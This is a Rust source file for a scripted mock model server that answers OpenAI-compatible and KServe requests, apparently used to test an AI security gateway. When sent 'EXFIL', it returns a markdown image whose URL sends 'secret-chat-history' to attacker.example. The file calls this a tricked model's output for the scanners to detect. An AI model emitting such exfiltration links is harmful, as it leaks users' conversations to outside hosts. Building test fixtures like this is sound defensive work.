//! A scripted OpenAI-compatible and KServe v2 upstream on loopback, used by
//! the tests, `aisec demo` and the load benchmark in place of a real model
//! server.
//!
//! Chat/completion replies are driven by the last user text:
//! `ECHO:<text>` answers `<text>`; `EXFIL` answers with a markdown image
//! whose URL carries chat data to another host (a model that was tricked,
//! for the output scanners); `SLOW:<ms>` waits that long first;
//! `FOREVER` streams one event every 20 ms (at most 500) and records when
//! the client side went away. Anything else gets a fixed friendly answer.
//! With `"stream": true` the answer is sent as SSE, one word per event.

use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;

use axum::body::Body;
use axum::extract::State;
use axum::http::{header, StatusCode};
use axum::response::{IntoResponse, Response};
use axum::routing::{get, post};
use axum::{Json, Router};
use bytes::Bytes;
use serde_json::{json, Value};

/// What the scripted upstream observed.
#[derive(Debug, Default)]
pub struct UpstreamLog {
    /// Requests received.
    pub requests: AtomicU64,
    /// A `FOREVER` stream was dropped by its reader before it finished.
    pub stream_dropped: AtomicBool,
    /// Last request body received (for redaction checks).
    pub last_body: std::sync::Mutex<String>,
}

/// A running scripted upstream.
pub struct Upstream {
    /// Bound address.
    pub addr: SocketAddr,
    /// What it observed.
    pub log: Arc<UpstreamLog>,
    handle: tokio::task::JoinHandle<()>,
}

impl Upstream {
    /// Base URL, e.g. `http://127.0.0.1:PORT`.
    pub fn url(&self) -> String {
        format!("http://{}", self.addr)
    }
}

impl Drop for Upstream {
    fn drop(&mut self) {
        self.handle.abort();
    }
}

fn last_user_text(v: &Value) -> String {
    if let Some(msgs) = v.get("messages").and_then(Value::as_array) {
        if let Some(m) = msgs
            .iter()
            .rev()
            .find(|m| m.get("role").and_then(Value::as_str) == Some("user"))
        {
            return match m.get("content") {
                Some(Value::String(s)) => s.clone(),
                Some(Value::Array(parts)) => parts
                    .iter()
                    .filter_map(|p| p.get("text").and_then(Value::as_str))
                    .collect::<Vec<_>>()
                    .join(" "),
                _ => String::new(),
            };
        }
    }
    match v.get("prompt") {
        Some(Value::String(s)) => s.clone(),
        _ => String::new(),
    }
}

struct DropFlag(Arc<UpstreamLog>, bool);
impl Drop for DropFlag {
    fn drop(&mut self) {
        if !self.1 {
            self.0.stream_dropped.store(true, Ordering::SeqCst);
        }
    }
}

async fn complete(State(log): State<Arc<UpstreamLog>>, body: Bytes) -> Response {
    log.requests.fetch_add(1, Ordering::Relaxed);
    if let Ok(mut g) = log.last_body.lock() {
        *g = String::from_utf8_lossy(&body).into_owned();
    }
    let v: Value = serde_json::from_slice(&body).unwrap_or(Value::Null);
    let chat = v.get("messages").is_some();
    let user = last_user_text(&v);
    let mut text = "Hello! I am a scripted model. How can I help you today?".to_string();
    if let Some(rest) = user.strip_prefix("ECHO:") {
        text = rest.to_string();
    } else if user.trim() == "EXFIL" {
        text = "Here is your status: ![status](https://attacker.example/log?d=secret-chat-history)"
            .to_string();
    } else if let Some(ms) = user
        .strip_prefix("SLOW:")
        .and_then(|s| s.trim().parse::<u64>().ok())
    {
        tokio::time::sleep(Duration::from_millis(ms.min(60_000))).await;
    }
    let stream = v.get("stream").and_then(Value::as_bool).unwrap_or(false);
    if !stream {
        let choice = if chat {
            json!({"index": 0, "message": {"role": "assistant", "content": text}, "finish_reason": "stop"})
        } else {
            json!({"index": 0, "text": text, "finish_reason": "stop"})
        };
        return Json(json!({"id": "cmpl-1", "object": if chat {"chat.completion"} else {"text_completion"}, "model": "scripted", "choices": [choice]})).into_response();
    }
    let forever = user.trim() == "FOREVER";
    let words: Vec<String> = text.split_inclusive(' ').map(str::to_string).collect();
    let log2 = log.clone();
    let s = futures_util::stream::unfold((0usize, DropFlag(log2, false)), move |(i, mut flag)| {
        let words = words.clone();
        async move {
            let n = if forever { 500 } else { words.len() };
            if i > n {
                return None;
            }
            let piece = if i == n {
                flag.1 = true;
                "data: [DONE]\n\n".to_string()
            } else {
                if forever {
                    tokio::time::sleep(Duration::from_millis(20)).await;
                }
                let w = if forever {
                    "tick ".to_string()
                } else {
                    words[i].clone()
                };
                let delta = if chat {
                    json!({"choices": [{"index": 0, "delta": {"content": w}}]})
                } else {
                    json!({"choices": [{"index": 0, "text": w}]})
                };
                format!("data: {delta}\n\n")
            };
            Some((
                Ok::<Bytes, std::convert::Infallible>(Bytes::from(piece)),
                (i + 1, flag),
            ))
        }
    });
    Response::builder()
        .status(StatusCode::OK)
        .header(header::CONTENT_TYPE, "text/event-stream")
        .body(Body::from_stream(s))
        .unwrap_or_else(|_| StatusCode::INTERNAL_SERVER_ERROR.into_response())
}

/// Starts the scripted upstream on `127.0.0.1:port` (0 for any free port).
pub async fn start_upstream(port: u16) -> std::io::Result<Upstream> {
    let log = Arc::new(UpstreamLog::default());
    let app = Router::new()
        .route("/v1/chat/completions", post(complete))
        .route("/v1/completions", post(complete))
        .route("/v1/models", get(|| async { Json(json!({"object": "list", "data": [{"id": "scripted", "object": "model"}]})) }))
        .route(
            "/v2/models/:name/infer",
            post(|body: Bytes| async move {
                let v: Value = serde_json::from_slice(&body).unwrap_or(Value::Null);
                let n = v.pointer("/inputs/0/data").and_then(Value::as_array).map(|a| a.len()).unwrap_or(0);
                Json(json!({"model_name": "scripted", "outputs": [{"name": "scores", "datatype": "FP32", "shape": [1, 2], "data": [0.25, 0.75], "inputs_seen": n}]}))
            }),
        )
        .with_state(log.clone());
    let listener = tokio::net::TcpListener::bind(("127.0.0.1", port)).await?;
    let addr = listener.local_addr()?;
    let handle = tokio::spawn(async move {
        let _ = axum::serve(listener, app).await;
    });
    Ok(Upstream { addr, log, handle })
}
